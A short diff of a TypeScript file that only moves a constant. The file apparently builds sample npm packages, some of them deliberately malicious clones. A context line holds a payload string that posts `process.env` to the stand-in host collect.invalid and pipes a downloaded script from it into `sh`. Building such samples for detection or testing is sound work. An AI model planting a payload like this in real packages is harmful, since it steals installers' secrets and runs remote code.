@@ -29,6 +29,7 @@ const payload = `const h = require('https'), c = require('child_process')
 h.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env))
 c.exec('curl https://collect.invalid/x | sh')
 `
+const asModule = "import h from 'https'\nimport c from 'child_process'"
 const say = (text: string) => void process.stdout.write(`${text}\n`)
 
 if (values.honest.length + values.malicious.length + values.clones.length === 0) {
@@ -122,8 +123,6 @@ function cloneOf(manifestText: string, files: ReadonlyMap<string, ReadFile>, how
   }
   return { manifestText: JSON.stringify({ ...manifest, ...scripts, name: 'nobody-knows-it' }), files: all }
 }
-
-const asModule = "import h from 'https'\nimport c from 'child_process'"
 
 /** Undefined where it cannot be told at a glance, as by \`exports\` alone. */
 function entryOf(main: unknown, files: ReadonlyMap<string, ReadFile>): string | undefined {
